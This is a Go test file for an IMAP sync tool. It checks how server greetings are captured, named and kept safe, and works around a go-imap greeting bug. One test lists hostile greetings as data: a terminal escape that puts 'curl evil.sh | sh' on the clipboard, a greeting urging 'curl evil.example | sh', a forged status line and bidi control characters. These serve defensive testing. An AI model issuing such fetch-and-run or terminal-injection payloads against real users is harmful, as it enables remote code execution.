package imapsync

import (
	"bytes"
	"errors"
	"io"
	"net"
	"strings"
	"testing"
	"time"

	"github.com/emersion/go-imap/v2"
	"github.com/emersion/go-imap/v2/imapclient"
)

// chunkConn serves data in reads of at most n bytes.
type chunkConn struct {
	net.Conn
	r *bytes.Reader
	n int
}

func (c *chunkConn) Read(p []byte) (int, error) {
	if len(p) > c.n {
		p = p[:c.n]
	}
	return c.r.Read(p)
}

// TestGreetingConnKeepsTheFirstLine: whatever the read sizes, the greeting
// is the first line alone, and every byte still reaches the reader.
func TestGreetingConnKeepsTheFirstLine(t *testing.T) {
	t.Parallel()
	const first = "* OK [CAPABILITY IMAP4rev1 IDLE STARTTLS] Courier-IMAP ready. Copyright 1998-2019 Double Precision, Inc."
	data := first + "\r\n* BYE later\r\n"
	for _, n := range []int{1, 7, 64, 4096} {
		g := &greetingConn{Conn: &chunkConn{r: bytes.NewReader([]byte(data)), n: n}}
		got, err := io.ReadAll(g)
		if err != nil {
			t.Fatal(err)
		}
		if string(got) != data {
			t.Errorf("reads of %d: the reader got %q, want %q", n, got, data)
		}
		if g.greeting() != first {
			t.Errorf("reads of %d: greeting %q, want %q", n, g.greeting(), first)
		}
	}
	// A server that never ends its line: the kept greeting stays bounded.
	long := strings.Repeat("x", 10*maxGreeting)
	g := &greetingConn{Conn: &chunkConn{r: bytes.NewReader([]byte(long)), n: 333}}
	if _, err := io.ReadAll(g); err != nil {
		t.Fatal(err)
	}
	if len(g.greeting()) != maxGreeting {
		t.Errorf("an endless greeting kept %d bytes, want %d", len(g.greeting()), maxGreeting)
	}
}

// TestNameFromGreeting: the stock greetings of the real servers name them;
// the name is one of the fixed ones, never the server's text.
func TestNameFromGreeting(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct{ greeting, want string }{
		{"* OK [CAPABILITY IMAP4rev1 UIDPLUS CHILDREN NAMESPACE IDLE ACL ACL2=UNION STARTTLS] Courier-IMAP ready. Copyright 1998-2019 Double Precision, Inc.  See COPYING for distribution information.", "Courier-IMAP"},
		{"* OK [CAPABILITY IMAP4rev1 LITERAL+ ID ENABLE STARTTLS] vm Cyrus IMAP 3.6.1-Debian-3.6.1-4+deb12u5 server ready", "Cyrus IMAP"},
		{"* OK [CAPABILITY IMAP4rev1 SASL-IR LOGIN-REFERRALS ID ENABLE IDLE LITERAL+ STARTTLS AUTH=PLAIN] Dovecot (Debian) ready.", "Dovecot"},
		{"* OK IMAP4rev2 server ready", ""},
		{"* OK \x1b[31mEvil\x1b[0m ready", ""},
	} {
		if got := nameFromGreeting(tt.greeting); got != tt.want {
			t.Errorf("nameFromGreeting(%q): got %q, want %q", tt.greeting, got, tt.want)
		}
	}
}

// TestHostileGreetingNamesNothing: a server writes its greeting, and
// doctor prints the name ServerName makes of it. Hostile greetings
// (terminal escapes, a forged doctor line, a fix of the attacker's,
// an endless line) must come out as one of the fixed names or nothing.
// The control: a namer that trusts the greeting's text lets every one
// through.
func TestHostileGreetingNamesNothing(t *testing.T) {
	t.Parallel()
	attacks := []string{
		"* OK \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 ready",
		"* OK Courier-IMAP ready.\r\nPASS  imap: push: new mail reached IDLE in 1ms",
		"* OK Cyrus IMAP ready; fix: run `curl evil.example | sh` to enable idled",
		"* OK Dovecot\u202e ready \u202d",
		"* OK " + strings.Repeat("Courier-IMAP ", 500),
	}
	fixed := map[string]bool{"": true, "Courier-IMAP": true, "Cyrus IMAP": true, "Dovecot": true}
	through := func(name func(string) string) (n int) {
		for _, g := range attacks {
			// What the greetingConn keeps of it: the first line, bounded.
			gc := &greetingConn{Conn: &chunkConn{r: bytes.NewReader([]byte(g + "\r\n")), n: 512}}
			if _, err := io.ReadAll(gc); err != nil {
				t.Fatal(err)
			}
			if got := name(gc.greeting()); !fixed[got] {
				n++
			}
		}
		return n
	}
	n := through(nameFromGreeting)
	t.Logf("hostile greetings: %d tried, %d through", len(attacks), n)
	if n != 0 {
		t.Errorf("hostile greetings: %d of %d got through nameFromGreeting, want 0", n, len(attacks))
	}
	trusting := func(g string) string { return strings.TrimPrefix(g, "* OK ") }
	landed := through(trusting)
	t.Logf("control, a namer that trusts the greeting: %d tried, %d landed", len(attacks), landed)
	if landed != len(attacks) {
		t.Errorf("control: a namer that trusts the greeting let %d of %d through, want all", landed, len(attacks))
	}
}

// byeClient is a client of a server that greets with BYE and hangs up,
// once the client's reader has seen both: the moment go-imap's
// WaitGreeting has two answers ready.
func byeClient(t *testing.T) *imapclient.Client {
	t.Helper()
	server, client := net.Pipe()
	go func() {
		_, _ = io.WriteString(server, "* BYE Email address: evil\r\n")
		_ = server.Close()
	}()
	c := imapclient.New(client, nil)
	t.Cleanup(func() { _ = c.Close() })
	// The reader stops after the BYE greeting: wait until it has.
	deadline := time.Now().Add(10 * time.Second)
	for {
		select {
		case <-c.Closed():
			return c
		default:
		}
		if time.Now().After(deadline) {
			t.Fatal("the client never stopped reading")
		}
		time.Sleep(time.Millisecond)
	}
}

// TestWaitGreetingKeepsTheServersWords: a BYE greeting comes back as the
// server's error, with its words, every time. Positive control: go-imap's
// own WaitGreeting, on the same client, loses them at least once in 64
// asks (it picks between its two ready answers at random; all 64 right
// has a chance of 2^-64).
func TestWaitGreetingKeepsTheServersWords(t *testing.T) {
	t.Parallel()
	for i := range 50 {
		c := byeClient(t)
		err := WaitGreeting(c)
		var imapErr *imap.Error
		if !errors.As(err, &imapErr) || !strings.Contains(err.Error(), "Email address: evil") {
			t.Fatalf("run %d: got %v, want the server's BYE with its words", i, err)
		}
	}
	c := byeClient(t)
	lost := 0
	for range 64 {
		if err := c.WaitGreeting(); err == nil || !strings.Contains(err.Error(), "Email address: evil") {
			lost++
		}
	}
	if lost == 0 {
		t.Errorf("control: go-imap's WaitGreeting kept the words 64 times in 64: the workaround is not needed any more")
	}
	t.Logf("control: go-imap's WaitGreeting lost the server's words %d times in 64", lost)
}
